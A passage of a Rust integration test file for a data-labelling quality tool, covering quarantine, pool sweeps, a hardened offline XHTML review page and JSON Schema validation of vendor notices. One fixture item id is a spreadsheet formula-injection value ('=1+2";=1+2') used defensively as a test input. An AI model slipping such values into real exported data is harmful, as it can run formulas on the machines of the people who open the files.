    let out = lw(&[
        "trusted",
        "add",
        &dir_s,
        &fixed,
        "--replace",
        "--by",
        "lab",
        "--source",
        "corrected PET/PP labels",
        "--json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let change: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(change["replaced"].as_array().unwrap().len(), 160);
    let suspicious: Vec<&str> = change["rescan"]["now_suspicious"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert!(
        suspicious.contains(&sid.as_str()),
        "re-scan: {}",
        change["rescan"]
    );
    assert_eq!(change["rescan"]["checked"].as_array().unwrap().len(), 1);
    // `trusted rescan` says the same, with exit code 1.
    let again = lw(&["trusted", "rescan", &dir_s]);
    assert_eq!(again.status.code(), Some(1), "{}", stderr(&again));
    assert!(String::from_utf8_lossy(&again.stdout).contains("quarantine withdraw"));

    let w = ok_json(&[
        "quarantine",
        "withdraw",
        &dir_s,
        &sid,
        "--by",
        "lab",
        "--reason",
        "shares the corrected PET/PP error",
        "--json",
    ]);
    assert_eq!(w["state"], "withdrawn");
    let t = Instant::now();
    while metric(d.addr, "labelweir_pool_items") != Some(0.0) {
        assert!(
            t.elapsed() < Duration::from_secs(30),
            "{:?}",
            metric(d.addr, "labelweir_pool_items")
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(d.stop().success());
    let store = ws.store();
    assert_eq!(store.pool_items().unwrap(), 0);
    assert_eq!(
        store.batch(&sid).unwrap().unwrap().state,
        BatchState::Withdrawn
    );
    drop(store);
    validate_notices(&ws.path("notices").join("north-sort"));
    assert!(notice_file(
        &ws.path("notices").join("north-sort"),
        &sid,
        "withdrawn.json"
    )
    .exists());
}

#[test]
fn pool_sweep_lists_a_bias_accepted_from_day_one_once_the_trusted_set_is_right() {
    // As above, the lab's first trusted set shares a vendor's systematic error, so the vendor's biased
    // batch is accepted on its first delivery, beside a clean batch from another vendor. After the lab
    // corrects its trusted items, `pool sweep` — live through the daemon and on the stopped store — puts
    // the biased batch first among the batches worth withdrawing, finds its relabelled items, and leaves
    // the clean batch alone.
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("ws");
    let (first, fixed) = mistaken_trusted_files(tmp.path());
    let dir_s = dir.display().to_string();
    let out = lw(&[
        "init",
        &dir_s,
        "--trusted",
        &first,
        "--vendor",
        "north-sort",
        "--vendor",
        "east-bale",
        "--by",
        "lab",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let ws = Ws { tmp, dir };
    ws.edit_config(&[
        ("quiet_period_ms = 2000", "quiet_period_ms = 150"),
        ("rescan_interval_secs = 60", "rescan_interval_secs = 1"),
        ("min_free_bytes = 67108864", "min_free_bytes = 1"),
    ]);
    let d = Daemon::start(&ws);
    let sys = biased_batch();
    let planted: HashSet<String> = sys
        .ids
        .iter()
        .zip(&sys.flipped)
        .filter(|(_, m)| **m)
        .map(|(id, _)| id.clone())
        .collect();
    ws.deliver("north-sort", "s1.csv", &sys.csv());
    ws.wait_settled(1, T);
    ws.deliver("east-bale", "c1.csv", &clean_batch("c1", 400, 33).csv());
    ws.wait_settled(2, T);
    wait_filed(&dir_s, 2);
    let name_of = |id: &str| {
        ok_json(&["quarantine", "show", &dir_s, id, "--json", "--no-html"])["batch"]
            ["original_name"]
            .as_str()
            .unwrap()
            .to_string()
    };
    // Against the lab's mistaken trusted set the clean batch looks wrong and is held; a reviewer who
    // checked it releases it into the pool.
    for f in ws.files_in("quarantine") {
        let id = f.split('.').next().unwrap().to_string();
        if f.ends_with(".csv") && name_of(&id) == "c1.csv" {
            let out = lw(&[
                "quarantine",
                "release",
                &dir_s,
                &id,
                "--by",
                "lab",
                "--reason",
                "checked on the line",
            ]);
            assert!(out.status.success(), "{}", stderr(&out));
        }
    }
    let t = Instant::now();
    while ws.files_in("accepted").len() < 2 && t.elapsed() < T {
        std::thread::sleep(Duration::from_millis(50));
    }
    let accepted: Vec<String> = ws
        .files_in("accepted")
        .iter()
        .filter(|f| f.ends_with(".csv"))
        .map(|f| f.split('.').next().unwrap().to_string())
        .collect();
    let sid = accepted.iter().find(|id| name_of(id) == "s1.csv");
    let cid = accepted.iter().find(|id| name_of(id) == "c1.csv");
    let (Some(sid), Some(cid)) = (sid.cloned(), cid.cloned()) else {
        panic!(
            "both batches should be in the pool; accepted {accepted:?}, quarantine {:?}",
            ws.files_in("quarantine")
        );
    };
    let out = lw(&[
        "trusted",
        "add",
        &dir_s,
        &fixed,
        "--replace",
        "--by",
        "lab",
        "--source",
        "corrected",
        "--json",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let check = |out: &Output| {
        let r: Value = serde_json::from_slice(&out.stdout).unwrap();
        let brief = serde_json::json!({
            "withdraw": r["withdraw"], "suspects": r["suspects"], "audit": r["trusted_audit"],
            "batches": r["batches"].as_array().unwrap().iter().map(|b| serde_json::json!([
                b["batch_id"], b["suspects"], b["suspect_share"], b["mean_suspicion"]])).collect::<Vec<_>>(),
            "planted": planted.len(),
        });
        assert_eq!(out.status.code(), Some(1), "{} {brief}", stderr(out));
        // Every item in the pool is swept: the two batches' 800 items less those held for review at
        // acceptance (flagged items wait outside the pool by default).
        let per_batch: u64 = r["batches"]
            .as_array()
            .unwrap()
            .iter()
            .map(|b| b["items"].as_u64().unwrap())
            .sum();
        assert_eq!(r["items"].as_u64(), Some(per_batch), "{r}");
        assert!((600..=800).contains(&per_batch), "{r}");
        let withdraw: Vec<&str> = r["withdraw"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert_eq!(withdraw, vec![sid.as_str()], "{r}");
        let batches = r["batches"].as_array().unwrap();
        assert_eq!(batches[0]["batch_id"], sid.as_str());
        let clean = batches
            .iter()
            .find(|b| b["batch_id"] == cid.as_str())
            .unwrap();
        assert_eq!(clean["withdraw_candidate"], false);
        // Most of the biased batch's suspects are the planted items, and the clean batch has few.
        let top = batches[0]["top"].as_array().unwrap();
        let planted_in_top = top
            .iter()
            .filter(|s| planted.contains(s["id"].as_str().unwrap()))
            .count();
        assert!(planted_in_top >= 3, "{planted_in_top} of 5: {top:?}");
        let s_susp = batches[0]["suspects"].as_u64().unwrap() as f64;
        assert!(s_susp >= 0.5 * planted.len() as f64, "{}", batches[0]);
        assert!(
            clean["suspect_share"].as_f64().unwrap()
                < 0.5 * batches[0]["suspect_share"].as_f64().unwrap(),
            "{clean}"
        );
        assert!(r["note"].as_str().unwrap().contains("not proof"));
    };
    // Live, through the daemon's admin socket.
    let live = lw(&["pool", "sweep", &dir_s, "--json", "--top", "5"]);
    check(&live);
    let items = serde_json::from_slice::<Value>(&live.stdout).unwrap()["items"]
        .as_u64()
        .unwrap();
    // Issue 15, item 5: on a terminal (`script` gives the command a pseudo-terminal, and copies what it
    // shows) the sweep counts the items scored, live from the daemon's progress lines and on the stopped
    // store from the sweep itself; on a pipe (the `--json` runs) nothing is drawn.
    assert!(!stderr(&live).contains("items scored"), "{}", stderr(&live));
    let on_terminal = || {
        let (code, shown) = on_a_terminal(&format!("{} pool sweep {dir_s}", bin()));
        assert_eq!(code, Some(1), "{shown}");
        assert!(
            shown.contains(&format!("pool sweep: items scored: {items}/{items}")),
            "{shown}"
        );
        assert!(shown.contains("worth withdrawing"), "{shown}");
    };
    on_terminal();
    assert!(d.stop().success());
    on_terminal();
    // On the stopped store; the text view names the batch and the command to act.
    check(&lw(&["pool", "sweep", &dir_s, "--json", "--top", "5"]));
    let text = lw(&["pool", "sweep", &dir_s]);
    let text = String::from_utf8_lossy(&text.stdout).into_owned();
    assert!(
        text.contains(&format!("worth withdrawing: {sid}")),
        "{text}"
    );
    let store = ws.store();
    let audits = store.audit_since(0).unwrap();
    assert_eq!(
        audits.iter().filter(|a| a.action == "pool_sweep").count(),
        5
    );
}

// ------------------------------------------------------------------------------------------------
// The HTML page: parse it as XML (it is written in XHTML syntax) and check what a reviewer sees.
// ------------------------------------------------------------------------------------------------

struct Element {
    name: String,
    attrs: HashMap<String, String>,
}

/// A small XML well-formedness check: every tag closes in order, attributes are quoted, text holds no
/// raw `<` and only the five predefined entities (or numeric ones). Returns the elements in order.
fn parse_xml(text: &str) -> Result<Vec<Element>, String> {
    let mut out = Vec::new();
    let mut stack: Vec<String> = Vec::new();
    let mut rest = text.trim_start();
    if let Some(r) = rest.strip_prefix("<!DOCTYPE html>") {
        rest = r;
    }
    while !rest.is_empty() {
        let lt = rest.find('<').unwrap_or(rest.len());
        check_text(&rest[..lt])?;
        rest = &rest[lt..];
        if rest.is_empty() {
            break;
        }
        let gt = rest.find('>').ok_or("unterminated tag")?;
        let tag = &rest[1..gt];
        rest = &rest[gt + 1..];
        if let Some(name) = tag.strip_prefix('/') {
            let open = stack.pop().ok_or(format!("stray </{name}>"))?;
            if open != name.trim() {
                return Err(format!("</{name}> closes <{open}>"));
            }
            continue;
        }
        let self_closing = tag.ends_with('/');
        let tag = tag.trim_end_matches('/');
        let (name, mut attrs_s) = tag.split_once(char::is_whitespace).unwrap_or((tag, ""));
        let mut attrs = HashMap::new();
        loop {
            attrs_s = attrs_s.trim_start();
            if attrs_s.is_empty() {
                break;
            }
            let eq = attrs_s
                .find('=')
                .ok_or(format!("attribute without value in <{name}>"))?;
            let key = attrs_s[..eq].trim().to_string();
            let after = &attrs_s[eq + 1..];
            let q = after.chars().next().ok_or("empty attribute")?;
            if q != '"' {
                return Err(format!("unquoted attribute {key} in <{name}>"));
            }
            let end = after[1..].find('"').ok_or("unterminated attribute")?;
            let value = &after[1..1 + end];
            check_text(value)?;
            attrs.insert(key, value.to_string());
            attrs_s = &after[end + 2..];
        }
        if !self_closing {
            stack.push(name.to_string());
        }
        out.push(Element {
            name: name.to_string(),
            attrs,
        });
        // Raw-text content (style): skip to its end tag.
        if name == "style" {
            let end = rest.find("</style>").ok_or("unterminated style")?;
            if rest[..end].contains('<') {
                return Err("markup inside style".into());
            }
            rest = &rest[end..];
        }
    }
    if let Some(open) = stack.pop() {
        return Err(format!("<{open}> never closed"));
    }
    Ok(out)
}

fn check_text(t: &str) -> Result<(), String> {
    if t.contains('<') {
        return Err(format!("raw < in text {t:?}"));
    }
    let mut rest = t;
    while let Some(i) = rest.find('&') {
        let after = &rest[i + 1..];
        let semi = after.find(';').ok_or(format!("bare & in {t:?}"))?;
        let ent = &after[..semi];
        let ok = matches!(ent, "amp" | "lt" | "gt" | "quot" | "apos")
            || (ent.starts_with('#') && ent[1..].chars().all(|c| c.is_ascii_digit()));
        if !ok {
            return Err(format!("unknown entity &{ent};"));
        }
        rest = &after[semi + 1..];
    }
    Ok(())
}

fn check_page(path: &Path, batch_items: usize, trusted_items: usize, moved: &[String]) {
    let html = std::fs::read_to_string(path).unwrap();
    let elements = parse_xml(&html).unwrap_or_else(|e| panic!("page is not well-formed: {e}"));
    // Offline and inert: no scripts, no event handlers, nothing loaded from anywhere; the CSP forbids both.
    assert!(!elements.iter().any(|e| matches!(
        e.name.as_str(),
        "script" | "iframe" | "object" | "embed" | "link" | "img"
    )));
    for e in &elements {
        for (k, v) in &e.attrs {
            assert!(!k.starts_with("on"), "event handler {k} on <{}>", e.name);
            if k == "href" || k == "src" {
                panic!("<{}> loads {v}", e.name);
            }
            if k != "xmlns" {
                assert!(!v.contains("http://") && !v.contains("https://"), "{k}={v}");
            }
        }
    }
    let csp = elements
        .iter()
        .find(|e| {
            e.name == "meta"
                && e.attrs.get("http-equiv").map(|s| s.as_str()) == Some("Content-Security-Policy")
        })
        .expect("a CSP");
    assert!(csp.attrs["content"].contains("default-src 'none'"));
    // The projection: one circle per batch item, one square per trusted item, inside an svg element.
    assert_eq!(elements.iter().filter(|e| e.name == "svg").count(), 1);
    let circles: Vec<&Element> = elements
        .iter()
        .filter(|e| {
            e.name == "circle" && e.attrs.get("class").is_some_and(|c| c.starts_with("batch"))
        })
        .collect();
    assert_eq!(circles.len(), batch_items);
    let squares = elements
        .iter()
        .filter(|e| e.name == "rect" && e.attrs.get("class").map(|s| s.as_str()) == Some("trusted"))
        .count();
    assert_eq!(squares, trusted_items);
    let ringed = circles
        .iter()
        .filter(|c| c.attrs["class"].contains("moved"))
        .count();
    assert_eq!(ringed, moved.len(), "every moved item is marked");
    // Coloured by suspicion: the moved items are redder on average than the rest.
    let red = |c: &&Element| u8::from_str_radix(&c.attrs["fill"][1..3], 16).unwrap() as f64;
    let mean = |v: Vec<f64>| v.iter().sum::<f64>() / v.len().max(1) as f64;
    let moved_red = mean(
        circles
            .iter()
            .filter(|c| c.attrs["class"].contains("moved"))
            .map(red)
            .collect(),
    );
    let other_red = mean(
        circles
            .iter()
            .filter(|c| !c.attrs["class"].contains("moved"))
            .map(red)
            .collect(),
    );
    assert!(
        moved_red > other_red,
        "moved {moved_red} vs others {other_red}"
    );
    // Every coordinate lies inside the drawing.
    for c in &circles {
        let cx: f64 = c.attrs["cx"].parse().unwrap();
        let cy: f64 = c.attrs["cy"].parse().unwrap();
        assert!((0.0..=640.0).contains(&cx) && (0.0..=480.0).contains(&cy));
    }
}

// ------------------------------------------------------------------------------------------------
// JSON Schema (2020-12) validation of notices against schemas/notice.schema.json.
// ------------------------------------------------------------------------------------------------

fn schema() -> Value {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("schemas/notice.schema.json");
    serde_json::from_slice(&std::fs::read(p).unwrap()).unwrap()
}

/// Validate `v` against `s` for the keywords the notice schema uses, with the meanings of "JSON Schema
/// Validation", draft 2020-12 (json-schema.org): type, enum, const, required, properties,
/// additionalProperties, items, minItems, minimum, maximum, minLength, pattern, format (date-time as
/// RFC 3339), $ref to `#/$defs/...`. An unknown keyword is a test failure, so nothing is skipped silently.
fn validate(root: &Value, s: &Value, v: &Value, at: &str, errors: &mut Vec<String>) {
    let obj = s.as_object().expect("schema object");
    for (k, kw) in obj {
        match k.as_str() {
            "$schema" | "$id" | "title" | "description" | "$defs" => {}
            "$ref" => {
                let name = kw
                    .as_str()
                    .unwrap()
                    .strip_prefix("#/$defs/")
                    .expect("local $ref");
                validate(root, &root["$defs"][name], v, at, errors);
            }
            "type" => {
                let types: Vec<&str> = match kw {
                    Value::String(t) => vec![t.as_str()],
                    Value::Array(a) => a.iter().map(|t| t.as_str().unwrap()).collect(),
                    _ => panic!("bad type keyword"),
                };
                let ok = types.iter().any(|t| match *t {
                    "object" => v.is_object(),
                    "array" => v.is_array(),
                    "string" => v.is_string(),
                    "boolean" => v.is_boolean(),
                    "null" => v.is_null(),
                    "number" => v.is_number(),
                    "integer" => v.as_f64().is_some_and(|x| x.fract() == 0.0),
                    other => panic!("unknown type {other}"),
                });
                if !ok {
                    errors.push(format!("{at}: expected {types:?}, got {v}"));
                }
            }
            "enum" => {
                if !kw.as_array().unwrap().contains(v) {
                    errors.push(format!("{at}: {v} not in enum"));
                }
            }
            "const" => {
                if kw != v {
                    errors.push(format!("{at}: {v} is not {kw}"));
                }
            }
            "required" => {
                for r in kw.as_array().unwrap() {
                    if v.get(r.as_str().unwrap()).is_none() {
                        errors.push(format!("{at}: missing {r}"));
                    }
                }
            }
            "properties" => {
                if let Some(o) = v.as_object() {
                    for (name, sub) in kw.as_object().unwrap() {
                        if let Some(x) = o.get(name) {
                            validate(root, sub, x, &format!("{at}/{name}"), errors);
                        }
                    }
                }
            }
            "additionalProperties" => {
                if let (Some(o), Some(false)) = (v.as_object(), kw.as_bool()) {
                    let known = obj.get("properties").and_then(|p| p.as_object());
                    for name in o.keys() {
                        if !known.is_some_and(|p| p.contains_key(name)) {
                            errors.push(format!("{at}: unexpected member {name}"));
                        }
                    }
                } else {
                    assert!(kw.is_boolean(), "only boolean additionalProperties");
                }
            }
            "items" => {
                if let Some(a) = v.as_array() {
                    for (i, x) in a.iter().enumerate() {
                        validate(root, kw, x, &format!("{at}/{i}"), errors);
                    }
                }
            }
            "minItems" => {
                if v.as_array()
                    .is_some_and(|a| (a.len() as u64) < kw.as_u64().unwrap())
                {
                    errors.push(format!("{at}: fewer than {kw} items"));
                }
            }
            "minimum" => {
                if v.as_f64().is_some_and(|x| x < kw.as_f64().unwrap()) {
                    errors.push(format!("{at}: {v} < {kw}"));
                }
            }
            "maximum" => {
                if v.as_f64().is_some_and(|x| x > kw.as_f64().unwrap()) {
                    errors.push(format!("{at}: {v} > {kw}"));
                }
            }
            "minLength" => {
                if v.as_str()
                    .is_some_and(|x| (x.chars().count() as u64) < kw.as_u64().unwrap())
                {
                    errors.push(format!("{at}: shorter than {kw}"));
                }
            }
            "pattern" => {
                let re = regex::Regex::new(kw.as_str().unwrap()).unwrap();
                if v.as_str().is_some_and(|x| !re.is_match(x)) {
                    errors.push(format!("{at}: {v} does not match {kw}"));
                }
            }
            "format" => {
                assert_eq!(kw, "date-time");
                if v.as_str()
                    .is_some_and(|x| chrono::DateTime::parse_from_rfc3339(x).is_err())
                {
                    errors.push(format!("{at}: {v} is not RFC 3339"));
                }
            }
            other => panic!("validator does not know keyword {other}"),
        }
    }
}

fn schema_errors(v: &Value) -> Vec<String> {
    let root = schema();
    let mut errors = Vec::new();
    validate(&root, &root, v, "", &mut errors);
    errors
}

/// Every JSON notice in a folder validates against the shipped schema.
pub(crate) fn validate_notices(dir: &Path) {
    let mut n = 0;
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        if !name.ends_with(".json") || name.starts_with('.') {
            continue;
        }
        let v: Value = serde_json::from_slice(&std::fs::read(e.path()).unwrap()).unwrap();
        let errors = schema_errors(&v);
        assert!(errors.is_empty(), "{name}: {errors:?}");
        n += 1;
    }
    assert!(n > 0, "no notices in {}", dir.display());
}

#[test]
fn every_kind_of_notice_validates_and_the_validator_rejects_bad_ones() {
    let batch = || BatchRef {
        batch_id: "b00000007".into(),
        vendor: "north-sort".into(),
        file_name: Some("week07.csv".into()),
        sha256: Some("0f".repeat(32)),
        received_at: chrono::Utc::now(),
        decided_at: chrono::Utc::now(),
    };
    let all = NoticeSettings {
        disclose_scores: true,
        disclose_proposed_labels: true,
        ..NoticeSettings::default()
    };
    let mut notices = Vec::new();
    for verdict in [
        NoticeVerdict::Accepted,
        NoticeVerdict::Quarantined,
        NoticeVerdict::Released,
        NoticeVerdict::Rejected,
        NoticeVerdict::Withdrawn,
        NoticeVerdict::Recalled,
    ] {
        let mut n = Notice::new(verdict, DecidedBy::Reviewer, batch());
        n.reasons
            .push(NoticeReason::new("repair_cost_outlier", "x"));
        n.items.push(NoticeItem {
            row: Some(3),
            id: "=1+2\";=1+2".into(),
            reasons: vec!["label_suspected".into()],
            proposed_label: Some("pet".into()),
            suspicion: Some(0.9),
        });
        n.items_total = Some(300);
        n.repair_cost = Some(0.12);
        notices.push(n);
    }
    let mut m = Notice::malformed(
        batch(),
        vec![NoticeReason {
            code: "parse_error".into(),
            detail: "not a number".into(),
            row: Some(3),
            column: Some("nir_1500".into()),
        }],
    );
    m.sha256 = None;
    notices.push(m);
    notices.push(Notice::duplicate(batch(), "b00000001"));
    for n in &notices {
        for settings in [&NoticeSettings::default(), &all] {
            let v = serde_json::to_value(n.redacted(settings)).unwrap();
            let errors = schema_errors(&v);
            assert!(errors.is_empty(), "{}: {errors:?}", n.verdict.as_str());
        }
    }
    // The validator can fail: each of these breaks the schema.
    let good = serde_json::to_value(notices[1].redacted(&all)).unwrap();
    let mut missing = good.clone();
    missing.as_object_mut().unwrap().remove("next_step");
    let mut extra = good.clone();
    extra["reviewer"] = "alice".into();
    let mut bad_hash = good.clone();
    bad_hash["sha256"] = "XYZ".into();
    let mut bad_time = good.clone();
    bad_time["decided_at"] = "yesterday".into();
    let mut bad_verdict = good.clone();
    bad_verdict["verdict"] = "approved".into();
    let mut bad_score = good.clone();
    bad_score["items"][0]["suspicion"] = 1.5.into();
    let mut bad_code = good.clone();
    bad_code["items"][0]["reasons"][0] = "Label Suspected!".into();
    for (what, v) in [
        ("missing member", missing),
        ("extra member", extra),
        ("bad hash", bad_hash),
        ("bad time", bad_time),
        ("bad verdict", bad_verdict),
        ("bad score", bad_score),
        ("bad code", bad_code),
    ] {
        assert!(
            !schema_errors(&v).is_empty(),
            "{what} should fail validation"
        );
    }
    // Written through write_notice, the files are what the schema describes.
    let tmp = tempfile::tempdir().unwrap();
    for n in &notices {
        notice::write_notice(tmp.path(), n, &NoticeSettings::default()).unwrap();
    }
    validate_notices(tmp.path());
}

/// Issue 11, item-level admission: the flagged items of an accepted batch wait for review (the default
/// `[admission] flagged = "hold"`), and so do its unsure items (`unsure_share`); the pool, `quarantine held` and the metrics count them; a reviewer
/// admits one (into the pool, audited) and drops the rest while the daemon runs; the counts survive a
/// restart. Then `flagged = "drop"` keeps them out with nothing waiting.
#[test]
fn flagged_items_of_an_accepted_batch_are_held_for_review() {
    let ws = Ws::new(&["north-sort"]);
    let dir = ws.dir.display().to_string();
    let d = Daemon::start(&ws);
    let base = metric(d.addr, "labelweir_pool_items").unwrap();
    let b = uniform_flipped_batch("h1", 300, 5, 0.02);
    let planted = planted(&b);
    assert!(!planted.is_empty());
    ws.deliver("north-sort", "week01.csv", &b.csv());
    ws.wait_settled(1, T);
    let acc = ws.files_in("accepted");
    assert_eq!(acc.len(), 1, "quarantine: {:?}", ws.files_in("quarantine"));
    let id = acc[0].split('.').next().unwrap().to_string();

    // The file reaches accepted/ a moment before its terminal state is recorded (filing order).
    let t = Instant::now();
    let held = loop {
        let v = ok_json(&["quarantine", "held", &dir, "--json"]);
        if !v.as_array().unwrap().is_empty() || t.elapsed() > T {
            break v;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let held = held.as_array().unwrap();
    assert_eq!(held.len(), 1, "{held:?}");
    assert_eq!(held[0]["batch_id"], id.as_str());
    let waiting = held[0]["waiting"].as_u64().unwrap() as usize;
    assert!(waiting > 0, "an accepted batch with flips holds items back");
    assert_eq!(held[0]["in_pool"].as_u64().unwrap() as usize, 300 - waiting);
    let held_ids: Vec<String> = held[0]["held"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["id"].as_str().unwrap().to_string())
        .collect();
    let caught = held_ids.iter().filter(|i| planted.contains(i)).count();
    assert!(
        caught * 2 >= planted.len(),
        "most planted flips are held: {caught} of {}",
        planted.len()
    );
    let wait_metric = |name: &str, want: f64| {
        let t = Instant::now();
        while metric(d.addr, name) != Some(want) {
            assert!(
                t.elapsed() < T,
                "{name}: {:?} != {want}",
                metric(d.addr, name)
            );
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    wait_metric("labelweir_pool_items", base + (300 - waiting) as f64);
    wait_metric(
        "labelweir_admission_items_total{fate=\"held\",vendor=\"north-sort\"}",
        waiting as f64,
    );

    // A reviewer admits one item with its given label and drops the rest.
    let one = held_ids[0].clone();
    let r = ok_json(&[
        "quarantine",
        "admit",
        &dir,
        &id,
        "--item",
        &one,
        "--by",
        "dana",
        "--reason",
        "checked",
        "--json",
    ]);
    assert_eq!(r["in_pool"].as_u64().unwrap() as usize, 300 - waiting + 1);
    assert_eq!(r["waiting"].as_u64().unwrap() as usize, waiting - 1);
    wait_metric("labelweir_pool_items", base + (300 - waiting + 1) as f64);
    // The same item cannot be decided twice.
    let again = lw(&[
        "quarantine",
        "admit",
        &dir,
        &id,
        "--item",
        &one,
        "--by",
        "dana",
        "--reason",
        "again",
    ]);
    assert_eq!(again.status.code(), Some(2), "{}", stderr(&again));
    if waiting > 1 {
        let r = ok_json(&[
            "quarantine",
            "drop",
            &dir,
            &id,
            "--by",
            "dana",
            "--reason",
            "wrong labels",
            "--json",
        ]);
        assert_eq!(r["waiting"], 0);
        assert_eq!(r["in_pool"].as_u64().unwrap() as usize, 300 - waiting + 1);
    }
    assert!(d.stop().success());
    let store = ws.store();
    assert_eq!(
        store.pool_items().unwrap() as f64,
        base + (300 - waiting + 1) as f64
    );
    let rec = store.batch(&id).unwrap().unwrap();
    assert_eq!(rec.held_waiting(), 0);
    assert_eq!(rec.held.len(), waiting);
    let audit = store.audit_since(0).unwrap();
    let decided: Vec<_> = audit
        .iter()
        .filter(|a| a.action == "held_decision" && a.actor == "dana")
        .collect();
    assert_eq!(decided.len(), if waiting > 1 { 2 } else { 1 });
    assert_eq!(decided[0].detail["items"][0], one.as_str());
    drop(store);

    // The other settings, on the same delivery in fresh workspaces: `drop` keeps the flagged items out
    // with nothing waiting; `relabel` lets in, with the proposed label, exactly those whose confidence
    // reaches the floor, and holds the rest.
    for (mode, floor) in [("drop", "0.9"), ("relabel", "0.3")] {
        let ws = Ws::with(
            &["north-sort"],
            &[
                ("flagged = \"hold\"", &format!("flagged = \"{mode}\"")),
                (
                    "relabel_min_confidence = 0.9",
                    &format!("relabel_min_confidence = {floor}"),
                ),
            ],
        );
        let d = Daemon::start(&ws);
        ws.deliver("north-sort", "week01.csv", &b.csv());
        ws.wait_settled(1, T);
        assert!(d.stop().success());
        let store = ws.store();
        let rec = store.batches_in(&[BatchState::Accepted]).unwrap().remove(0);
        assert_eq!(
            rec.held.len(),
            waiting,
            "{mode}: the same items are flagged"
        );
        let entry = store.pool_entry_of(&rec.id).unwrap().unwrap();
        let floor: f64 = floor.parse().unwrap();
        let entered: Vec<_> = rec
            .held
            .iter()
            .filter(|h| h.state == labelweir::store::HeldState::AdmittedProposed)
            .collect();
        for h in &rec.held {
            // Unsure items and items in doubt (not flagged) have no other label to enter with: they
            // wait under `relabel`.
            let unsure = h.why != labelweir::store::HeldWhy::Flagged;
            let expect = match (mode, unsure, h.confidence >= floor) {
                ("drop", _, _) => labelweir::store::HeldState::Dropped,
                (_, false, true) => labelweir::store::HeldState::AdmittedProposed,
                _ => labelweir::store::HeldState::Waiting,
            };
            assert_eq!(h.state, expect, "{mode}: {h:?}");
        }
        assert_eq!(entry.ids.len(), 300 - waiting + entered.len(), "{mode}");
        let classes = store.workspace_meta().unwrap().classes;
        for h in &entered {
            let row = entry.ids.iter().position(|i| *i == h.id).unwrap();
            assert_eq!(classes[entry.labels[row]], h.proposed_label);
        }
        if mode == "relabel" {
            assert!(
                !entered.is_empty() && entered.len() < waiting,
                "the floor splits this batch's flagged items: {} of {waiting}",
                entered.len()
            );
        }
    }
}

/// Issue 11, no oracle in notices: the notices of policy verdicts (an accepted batch with flagged items
/// held back, a quarantined one) and of a rejection without disclosure name no item of either batch —
/// checked in every notice file (JSON, Markdown, CSV) — yet give the counts; a rejection that discloses
/// names the flagged items.
#[test]
fn notices_name_no_item_unless_a_reviewer_discloses() {
    let ws = Ws::new(&["north-sort"]);
    let dir = ws.dir.display().to_string();
    let d = Daemon::start(&ws);
    let ok = uniform_flipped_batch("h1", 300, 5, 0.02);
    let bad = uniform_flipped_batch("q1", 300, 7, 0.3);
    ws.deliver("north-sort", "week01.csv", &ok.csv());
    ws.wait_settled(1, T);
    ws.deliver("north-sort", "week02.csv", &bad.csv());
    ws.wait_settled(2, T);
    let (acc, quar) = (ws.files_in("accepted"), ws.files_in("quarantine"));
    assert_eq!(acc.len(), 1, "{acc:?} {quar:?}");
    let aid = acc[0].split('.').next().unwrap().to_string();
    let qid = quar
        .iter()
        .find(|f| f.ends_with(".csv"))
        .and_then(|f| f.split('.').next())
        .unwrap_or_else(|| panic!("the poisoned batch is held: {quar:?}"))
        .to_string();
    let ids: Vec<&String> = ok.ids.iter().chain(bad.ids.iter()).collect();
    let notices = ws.path("notices").join("north-sort");
    let assert_no_item = |what: &str| {
        let files: Vec<_> = std::fs::read_dir(&notices)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.is_file())
            .collect();
        assert!(!files.is_empty());
        for p in files {
            let text = std::fs::read_to_string(&p).unwrap();
            if let Some(id) = ids.iter().find(|i| text.contains(i.as_str())) {
                panic!("{what}: {} names item {id}", p.display());
            }
        }
    };
    // Wait for both notices, then check every file.
    let t = Instant::now();
    while !(notice_file(&notices, &aid, "json").is_file()
        && notice_file(&notices, &qid, "json").is_file())
    {
        assert!(t.elapsed() < T);
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_no_item("policy verdicts");
    // Items in doubt waiting: the flagged ones and those in doubt below the batch's flag line (the
    // unsure ones wait too, and the notice does not count them: it says what was in doubt).
    let store_held = |id: &str| {
        let v = ok_json(&["quarantine", "held", &dir, "--json"]);
        v.as_array()
            .unwrap()
            .iter()
            .find(|b| b["batch_id"] == id)
            .map_or(0, |b| {
                b["waiting"].as_u64().unwrap() - b["unsure"].as_u64().unwrap()
            })
    };
    let na = ws.notice("north-sort", &aid);
    assert_eq!(na["verdict"], "accepted");
    assert_eq!(na["items"].as_array().unwrap().len(), 0);
    assert_eq!(na["items_total"], 300);
    let t = Instant::now();
    while store_held(&aid) == 0 {
        assert!(t.elapsed() < T, "the accepted batch holds items back");
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(na["items_listed_total"].as_u64(), Some(store_held(&aid)));
    let csv = std::fs::read_to_string(notice_file(&notices, &aid, "items.csv")).unwrap();
    assert_eq!(csv.lines().count(), 1, "a header only: {csv}");
    let md = std::fs::read_to_string(notice_file(&notices, &aid, "md")).unwrap();
    assert!(
        md.contains(&format!("{} of 300 items were in doubt", store_held(&aid))),
        "{md}"
    );
    let nq = ws.notice("north-sort", &qid);
    assert_eq!(nq["verdict"], "quarantined");
    assert_eq!(nq["items"].as_array().unwrap().len(), 0);
    assert!(nq["items_listed_total"].as_u64().unwrap() > 30);
    validate_notices(&notices);

    // A rejection without disclosure: counts only. (The file reaches quarantine/ a moment before its
    // terminal state is recorded; a decision in that window is refused as "decided", so retry briefly.)
    let t = Instant::now();
    loop {
        let out = lw(&[
            "quarantine",
            "reject",
            &dir,
            &qid,
            "--by",
            "dana",
            "--reason",
            "flips",
        ]);
        if out.status.success() {
            break;
        }
        assert!(
